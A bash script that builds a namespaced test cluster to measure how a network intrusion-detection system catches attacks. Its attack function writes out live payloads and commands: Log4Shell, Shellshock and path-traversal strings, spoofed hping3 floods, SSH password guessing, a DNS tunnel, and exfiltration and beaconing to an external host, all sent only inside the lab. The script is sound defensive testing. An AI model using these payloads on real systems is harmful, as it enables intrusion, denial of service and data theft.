#!/usr/bin/env bash
# lab/run.sh -- the detection lab: a two-node "cluster" in network namespaces, an agent per
# node capturing live on its pod interfaces, one aggregator, benign traffic all the time and
# attacks with real tools. Prints, per scenario: detected or not, the anomaly types raised,
# the time from the attack's start to its first anomaly at the aggregator; and every anomaly
# raised during the benign-only run.
#
#   sudo lab/run.sh                              # 10-minute benign run, then every scenario
#   sudo lab/run.sh --benign 60 --scenarios syn-scan,ssh-guess --out /tmp/lab
#
# Options:
#   --benign SECONDS     length of the benign-only run before the attacks (default 600)
#   --scenarios A,B,...  which scenarios (default: all; --list shows them)
#   --out DIR            where results go (default lab/out): anomalies.log, scenarios.tsv,
#                        results.tsv, table.md, and the components' logs
#   --enforce            blocking in enforce mode (default: the aggregator's dry run); the
#                        scan-blocked and spoofed-scan scenarios measure it
#   --list               print the scenarios and exit
#
# NETWATCH_CMD overrides how Netwatch is started (default: the repository's ./netwatch
# launcher, which builds the jar when needed); the tests set it to their class path.
# Topology: lab/cluster.sh. Tools come from Debian (lab/require.sh). Needs root. Traffic stays
# inside the namespaces made here; everything is torn down at the end, also on Ctrl-C.
set -euo pipefail

LAB_DIR=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd)
REPO_DIR=$(cd -- "$LAB_DIR/.." && pwd)

# name|expected anomaly types|actor addresses (source or target of the anomaly)|what it runs
SCENARIOS=(
    "syn-scan|port_scan|10.244.1.66|nmap -sS, 1,000 ports of a pod on the other node"
    "connect-scan|port_scan|10.244.1.66|nmap -sT, 1,000 ports of a pod on the same node"
    "udp-scan|port_scan|10.244.1.66|nmap -sU, 100 ports of another pod"
    "sweep|ip_sweep|10.244.1.66|nmap -sn -PS80,443, the other node's /24"
    "syn-flood|syn_flood|10.244.2.20|hping3 -S --rand-source, 5,000 packets/s for 5 s"
    "udp-flood|udp_flood|10.244.2.20|hping3 --udp, 5,000 packets/s for 5 s"
    "dns-tunnel|dns_tunnel,exfiltration|10.244.1.66|iodine through the cluster DNS to an external iodined"
    "http-exfil|exfiltration,volume_spike,new_edge,ml_outlier|10.244.1.66|curl PUT of 64 MB to an external address"
    "ssh-guess|brute_force|10.244.1.66|ssh with sshpass, 20 passwords against sshd (4 at once, one try per connection)"
    "exploit|signature|10.244.1.66|curl with Log4Shell, Shellshock and traversal strings"
    "beacon|beaconing|10.244.1.66|curl to an external address every 2 s for 40 s"
    "scan-blocked|port_scan|10.244.1.66|with --enforce: nmap -sT of a fresh pod after a normal request; time until the scanner's traffic is dropped"
    "spoofed-scan|port_scan|10.244.2.53|with --enforce: hping3 SYNs to 300 ports spoofing the cluster DNS pod's address; nothing may be blocked"
)

BENIGN=600 ONLY=all OUT=$LAB_DIR/out ENFORCE=0
while (($#)); do
    case $1 in
        --benign) BENIGN=$2; shift 2 ;;
        --scenarios) ONLY=$2; shift 2 ;;
        --out) OUT=$2; shift 2 ;;
        --enforce) ENFORCE=1; shift ;;
        --list) for s in "${SCENARIOS[@]}"; do IFS='|' read -r n t _ d <<<"$s"; printf '%-13s %-45s %s\n' "$n" "$t" "$d"; done; exit 0 ;;
        -h|--help) sed -n '2,22p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
        *) echo "lab: unknown option '$1' (see --help)" >&2; exit 2 ;;
    esac
done
[[ $BENIGN =~ ^[0-9]+$ ]] || { echo "lab: --benign takes whole seconds, got '$BENIGN'" >&2; exit 2; }
if [[ $ONLY != all ]]; then
    IFS=',' read -ra wanted <<<"$ONLY"
    for w in "${wanted[@]}"; do
        printf '%s\n' "${SCENARIOS[@]}" | grep -q "^$w|" || { echo "lab: no scenario '$w' (see --list)" >&2; exit 2; }
    done
fi

# shellcheck source=lab/require.sh
source "$LAB_DIR/require.sh"
# shellcheck source=lab/netns.sh
source "$LAB_DIR/netns.sh"
# shellcheck source=lab/cluster.sh
source "$LAB_DIR/cluster.sh"

say() { echo "[lab $(date +%T)] $*" >&2; }
[[ $(id -u) -eq 0 ]] || { say "must run as root: sudo $0"; exit 1; }

for spec in ip:iproute2 ss:iproute2 ethtool:ethtool tcpdump:tcpdump curl:curl dig:dnsutils nmap:nmap hping3:hping3 \
    iodine:iodine iodined:iodine sshd:openssh-server ssh:openssh-client ssh-keygen:openssh-client sshpass:sshpass \
    dnsmasq:dnsmasq-base; do
    nw_require "${spec%%:*}" "${spec#*:}"
done
if [[ -x /usr/bin/python3 ]]; then PY=/usr/bin/python3; else nw_require python3 python3; PY=$(command -v python3); fi
read -ra NW <<<"${NETWATCH_CMD:-$REPO_DIR/netwatch}"
# Build before the clock starts (the launcher builds on first use).
"${NW[@]}" version >/dev/null

now_ms() { date +%s%3N; }

nw_init
trap nw_cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
mkdir -p "$OUT"
rm -f "$OUT"/{anomalies.log,scenarios.tsv,results.tsv,table.md}
nw_tmpdir; WORK=$NW_TMP

say "building the cluster"
lab_cluster_up
lab_pod_routed n1-client 10.244.1.10
lab_pod_routed n1-web 10.244.1.20
lab_pod_routed n1-attacker 10.244.1.66
lab_pod_bridged n2-web 10.244.2.20
lab_pod_bridged n2-db 10.244.2.30
lab_pod_bridged n2-worker 10.244.2.40
lab_pod_bridged n2-dns 10.244.2.53

say "starting services"
mkdir -p "$WORK/www/api"
printf '<html><body>lab</body></html>\n' >"$WORK/www/index.html"
printf '{"items":[1,2,3]}\n' >"$WORK/www/api/items"
head -c $((16 << 20)) /dev/urandom >"$WORK/www/bulk.bin"
nw_bg n1-web "$OUT/n1-web.log" "$PY" -m http.server 80 --bind 10.244.1.20 --directory "$WORK/www"
nw_bg n2-web "$OUT/n2-web.log" "$PY" -m http.server 80 --bind 10.244.2.20 --directory "$WORK/www"
nw_bg n2-db "$OUT/n2-db-http.log" "$PY" -m http.server 8080 --bind 10.244.2.30 --directory "$WORK/www"
nw_bg ext "$OUT/ext-http.log" "$PY" "$LAB_DIR/ext-server.py" "$LAB_EXT" 8080
# sshd with a throwaway host key; root's password is none of the guesses.
mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh_host_key"
cat >"$WORK/sshd_config" <<EOF
ListenAddress 10.244.2.30
HostKey $WORK/ssh_host_key
PidFile $WORK/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
MaxStartups 100
MaxAuthTries 1
LoginGraceTime 10
EOF
nw_bg n2-db "$OUT/sshd.log" /usr/sbin/sshd -D -e -f "$WORK/sshd_config"
# The cluster DNS: the lab's zone, and t.lab.test delegated (forwarded) to ext's iodined.
nw_bg n2-dns "$OUT/dnsmasq.log" dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null \
    --listen-address=10.244.2.53 --bind-interfaces --log-facility=- \
    --local=/lab.test/ --server=/t.lab.test/"$LAB_EXT_DNS" \
    --host-record=web.lab.test,10.244.2.20 --host-record=db.lab.test,10.244.2.30 \
    --host-record=app.lab.test,10.244.1.20 --host-record=ext.lab.test,"$LAB_EXT"
nw_bg ext "$OUT/iodined.log" iodined -f -c -l "$LAB_EXT_DNS" -P lab-tunnel 10.77.0.1/27 t.lab.test
nw_wait_listen n1-web tcp 80
nw_wait_listen n2-web tcp 80
nw_wait_listen n2-db tcp 22
nw_wait_listen n2-dns udp 53
nw_wait_listen ext udp 53
nw_wait_listen ext tcp 8080

say "starting the aggregator and one agent per node"
AGG=$LAB_NODE1_UNDERLAY:50051
# Blocking: scans of medium severity and up, 5 s drops (short, so a block of one scenario's
# scanner is over before the next scenario starts); the cluster DNS pod is protected.
cat >"$WORK/response.yaml" <<EOF
rules:
  - name: lab-scanners
    types: [port_scan, ip_sweep]
    min_severity: medium
    action: node_drop
    ttl: 5s
EOF
cat >"$WORK/aggregator.yaml" <<EOF
response:
  mode: $( ((ENFORCE)) && echo enforce || echo dry-run )
  file: $WORK/response.yaml
  protected_cidrs: [10.244.2.53/32]
EOF
nw_bg node1 "$OUT/aggregator.log" "${NW[@]}" aggregator --config "$WORK/aggregator.yaml" --listen "$AGG" \
    --metrics "$LAB_NODE1_UNDERLAY:9092"
nw_wait_listen node1 tcp 50051 60
nw_bg node1 "$OUT/agent-node1.log" "${NW[@]}" agent --node node1 -i 'cali.*' --aggregator "$AGG" \
    --metrics 127.0.0.1:9091
nw_bg node2 "$OUT/agent-node2.log" "${NW[@]}" agent --node node2 -i 'veth.*' --aggregator "$AGG" \
    --metrics 127.0.0.1:9091
nw_wait_listen node1 tcp 9091 60
nw_wait_listen node2 tcp 9091 60
nw_bg node1 "$OUT/follow.log" "$PY" "$LAB_DIR/stamp.py" "$OUT/anomalies.log" -- \
    "${NW[@]}" anomalies --follow --json --aggregator "$AGG"
sleep 3

say "benign traffic starts: HTTP between services, DNS lookups, a periodic job, a bulk transfer"
nw_bg n1-client "$OUT/benign-client.log" bash -c '
    while :; do
        curl -s -o /dev/null http://web.lab.test/ --resolve web.lab.test:80:10.244.2.20
        curl -s -o /dev/null http://10.244.1.20/api/items
        dig +short +time=1 +tries=1 @10.244.2.53 web.lab.test >/dev/null
        dig +short +time=1 +tries=1 @10.244.2.53 db.lab.test >/dev/null
        sleep 0.$((RANDOM % 9 + 1))
    done'
nw_bg n2-worker "$OUT/benign-worker.log" bash -c '
    while :; do
        for i in 1 2 3 4 5; do curl -s -o /dev/null http://10.244.2.30:8080/api/items; done
        curl -s -o /dev/null http://10.244.1.20/
        sleep 15
    done'
nw_bg n2-web "$OUT/benign-bulk.log" bash -c '
    sleep 20
    while :; do curl -s -o /dev/null http://10.244.1.20/bulk.bin; sleep 120; done'

BENIGN_START=$(now_ms)
say "benign-only run: $BENIGN s"
sleep "$BENIGN"
BENIGN_END=$(now_ms)
printf 'benign\t\t\t%s\t%s\n' "$BENIGN_START" "$BENIGN_END" >>"$OUT/scenarios.tsv"

A=n1-attacker
# probe NS URL OUT: one request every 0.1 s, "<ms> ok|fail" per line, until stopped.
probe() {
    nw_bg "$1" "$3" bash -c 'while :; do
        if curl -s -o /dev/null --max-time 0.3 "$0"; then echo "$(date +%s%3N) ok"; else echo "$(date +%s%3N) fail"; fi
        sleep 0.1; done' "$2"
    PROBE_PID=$NW_LAST_PID
}
attack() {
    case $1 in
        syn-scan) nw_exec $A nmap -sS -Pn -n -T4 -p 1-1000 10.244.2.20 ;;
        connect-scan) nw_exec $A nmap -sT -Pn -n -T4 -p 1-1000 10.244.1.20 ;;
        udp-scan) nw_exec $A nmap -sU -Pn -n -T4 --top-ports 100 --max-retries 1 10.244.2.30 ;;
        sweep) nw_exec $A nmap -sn -n -PS80,443 -PE 10.244.2.0/24 ;;
        # timeout ends hping3 (status 124): that is the plan, not a failure.
        syn-flood) nw_exec $A timeout 5 hping3 -q -S -p 80 -i u200 --rand-source 10.244.2.20 || (($? == 124)) ;;
        udp-flood) nw_exec $A timeout 5 hping3 -q --udp -p 9999 -i u200 10.244.2.20 || (($? == 124)) ;;
        dns-tunnel)
            # A fixed downstream fragment size (-m), under the 1,186 bytes iodine's probe finds
            # here: the probe's timeouts took seconds on a busy machine, and dns0 exists before
            # it ends, so the pings could go before the tunnel carried data and iodine was
            # stopped mid-probe (LabTest then saw no tunnel). The pings wait for the setup.
            nw_bg $A "$OUT/iodine.log" iodine -f -r -m 1000 -P lab-tunnel 10.244.2.53 t.lab.test
            local i
            for ((i = 0; i < 300; i++)); do
                grep -q 'Connection setup complete' "$OUT/iodine.log" 2>/dev/null && break
                sleep 0.1
            done
            nw_exec $A ping -q -c 20 -i 0.2 -s 600 10.77.0.1 || true
            nw_stop "$NW_LAST_PID" ;;
        http-exfil)
            head -c $((64 << 20)) /dev/urandom >"$WORK/loot.bin"
            nw_exec $A curl -s -o /dev/null -T "$WORK/loot.bin" "http://$LAB_EXT:8080/upload" ;;
        ssh-guess)
            # OpenSSH's own client, four guessers at once, one password per connection (sshd has
            # MaxAuthTries 1). hydra does the same but needs about 20 s per try against this sshd.
            local w guessers=()
            for w in 1 2 3 4; do
                nw_exec $A bash -c 'for p in 1 2 3 4 5; do
                    timeout 10 sshpass -p "guess$0-$p" ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
                        -o PreferredAuthentications=password -o PubkeyAuthentication=no -o ConnectTimeout=3 \
                        root@10.244.2.30 true; done' "$w" &
                guessers+=($!)
            done
            wait "${guessers[@]}" || true ;;
        exploit)
            nw_exec $A curl -s -o /dev/null -A '${jndi:ldap://198.51.100.10:1389/a}' http://10.244.2.20/
            nw_exec $A curl -s -o /dev/null -A '() { :; }; /bin/bash -c "id"' http://10.244.2.20/cgi-bin/status
            nw_exec $A curl -s -o /dev/null --path-as-is 'http://10.244.2.20/../../../../etc/passwd' ;;
        scan-blocked)
            ((ENFORCE)) || { say "  scan-blocked needs --enforce"; return 1; }
            nw_exec $A curl -s -o /dev/null http://10.244.2.20/
            probe $A http://10.244.2.20/ "$OUT/probe-attacker.log"; local attacker=$PROBE_PID
            probe n1-client http://10.244.2.20/ "$OUT/probe-benign.log"; local benign=$PROBE_PID
            # The scan starts with its first SYN to the fresh pod; the attacker's own tcpdump
            # stamps it, so the time nmap takes to start on a busy machine is not charged to
            # Netwatch (the table shows both).
            nw_bg $A "$OUT/scan-first-syn.txt" tcpdump -i eth0 -nn -tt -l -c 1 \
                'tcp[tcpflags] & tcp-syn != 0 and dst host 10.244.2.40'
            local first_syn=$NW_LAST_PID
            for ((i = 0; i < 50; i++)); do
                grep -q 'listening on' "$OUT/scan-first-syn.txt" 2>/dev/null && break
                sleep 0.1
            done
            sleep 1
            now_ms >"$OUT/scan-blocked.start"
            # A pod no other scenario scans: a scanner already reported against a target is not
            # reported again within the detector's cooldown, and no report means no block.
            nw_exec $A nmap -sT -Pn -n -T4 -p 1-1000 10.244.2.40 || true
            # Wait out the block's 5 s TTL, and a little more: the drop must lift by itself.
            sleep 10
            nw_stop "$attacker"; nw_stop "$benign"; nw_stop "$first_syn" ;;
        spoofed-scan)
            ((ENFORCE)) || { say "  spoofed-scan needs --enforce"; return 1; }
            probe n1-client http://10.244.2.20/ "$OUT/probe-spoof-benign.log"; local benign=$PROBE_PID
            # hping3 walks ports 1, 2, 3, ... with SYNs whose source is the DNS pod's address
            # (nmap -S finds no route for an address the pod does not hold).
            nw_exec $A hping3 -q -S -a 10.244.2.53 -p ++1 -c 300 -i u2000 10.244.2.20 || true
            sleep 3
            nw_exec n1-client dig +short +time=1 +tries=2 @10.244.2.53 web.lab.test >"$OUT/spoofed-dns.txt" || true
            nw_stop "$benign" ;;
        beacon)
            local i
            for ((i = 0; i < 20; i++)); do
                nw_exec $A curl -s -o /dev/null "http://$LAB_EXT:8080/c2?id=lab"
                sleep 2
            done ;;
    esac
}

for s in "${SCENARIOS[@]}"; do
    IFS='|' read -r name types actors _ <<<"$s"
    [[ $ONLY == all || ",$ONLY," == *",$name,"* ]] || continue
    say "scenario $name"
    start=$(now_ms)
    attack "$name" >>"$OUT/attacks.log" 2>&1 || say "  $name: the attack tool failed (see $OUT/attacks.log)"
    # Let the detections of this attack arrive before the next one starts. The aggregator
    # judges the exfiltration from its flow's record, 10 s after the connection closes.
    if [[ $name == http-exfil ]]; then sleep 25; else sleep 6; fi
    printf '%s\t%s\t%s\t%s\t%s\n' "$name" "$types" "$actors" "$start" "$(now_ms)" >>"$OUT/scenarios.tsv"
done

# Every blocking decision the aggregator made (blocked, would block, refused by which guardrail).
nw_exec node1 "${NW[@]}" blocks audit --aggregator "$AGG" >"$OUT/audit.txt" 2>&1 || true
"$PY" "$LAB_DIR/report.py" "$OUT"
if ((ENFORCE)) && [[ -f $OUT/scan-blocked.start ]]; then
    "$PY" "$LAB_DIR/blocking.py" "$OUT"
fi
